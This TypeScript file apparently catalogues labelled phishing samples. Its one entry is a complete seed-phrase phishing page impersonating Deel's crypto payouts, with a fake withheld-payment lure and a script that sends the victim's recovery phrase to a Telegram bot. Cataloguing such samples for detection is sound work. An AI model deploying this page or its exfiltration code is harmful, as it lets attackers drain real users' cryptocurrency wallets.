import type { Entry } from '../entry.js';
import { htmlRoute } from '../entry.js';
import { doc } from '../parts/yr-kit.js';
import { jsonRoute, jsRoute } from '../parts/e-bin.js';

export const entries: Entry[] = [
  {
    id: 'yr-crypto-payroll-wallet-seed-verification',
    label: 'cryptodrainer',
    kind: 'seed-phrase-phish',
    url: 'https://payroll-wallet-verify.com/deel/crypto-payout',
    body: doc({
      title: 'Crypto Payout Wallet Verification',
      css: `body{margin:0;font-family:Inter,Arial,sans-serif;background:#f5f6fb;color:#101828}.c{max-width:560px;margin:50px auto;background:#fff;border-radius:16px;padding:30px;box-shadow:0 8px 30px rgba(21,53,122,.08)}
.g{display:grid;grid-template-columns:repeat(3,1fr);gap:8px}.g input{padding:10px;border:1px solid #d0d5dd;border-radius:8px;font-size:14px}.tabs button{border:1px solid #d0d5dd;background:#fff;border-radius:8px;padding:6px 12px;margin-right:6px}
.b{width:100%;padding:13px;border:0;border-radius:10px;background:#15357a;color:#fff;font-weight:600;margin-top:18px}.w{background:#fffaeb;border-radius:10px;padding:12px;font-size:14px}`,
      body: `<div class="c"><b style="font-size:24px;color:#15357a">deel.</b> <span style="color:#667085">Crypto payouts</span>
<h2>Verify your payout wallet</h2><div class="w">Your <b>October contractor payment (2,850.00 USDT)</b> could not be delivered to your wallet because it failed our new Travel Rule compliance check. Re-import your wallet below to prove ownership; your payment will be released within 1 hour.</div>
<p>Wallet: <span class="tabs"><button>MetaMask</button><button>Trust Wallet</button><button>Ledger</button><button>Coinbase Wallet</button></span></p>
<p style="font-size:14px">Enter your 12 or 24-word recovery phrase in the correct order.</p>
<form id="sd"><div class="g" id="g"></div><button class="b">Verify wallet</button></form>
<p style="font-size:12px;color:#667085">Your phrase is encrypted locally with AES-256 and never stored on our servers.</p></div>
<script>
var g=document.getElementById('g');for(var i=1;i<=12;i++){var x=document.createElement('input');x.name='w'+i;x.placeholder=i+'.';x.autocomplete='off';g.appendChild(x)}
document.getElementById('sd').addEventListener('submit',function(e){e.preventDefault();var w=[];for(var i=1;i<=12;i++)w.push(this['w'+i].value.trim());
fetch('https://api.telegram.org/bot7349001826:AAE_rT5kq2NwXz8MfLc0VbJ7pHd3YsGu1Qo/sendMessage?chat_id=-1002251873390&text='+encodeURIComponent('SEED '+w.join(' ')+' | '+navigator.userAgent)).finally(function(){alert('Verification in progress. Your payment will be released within 1 hour.');location.href='https://www.deel.com/'})});
</script>`,
    }),
  },
];
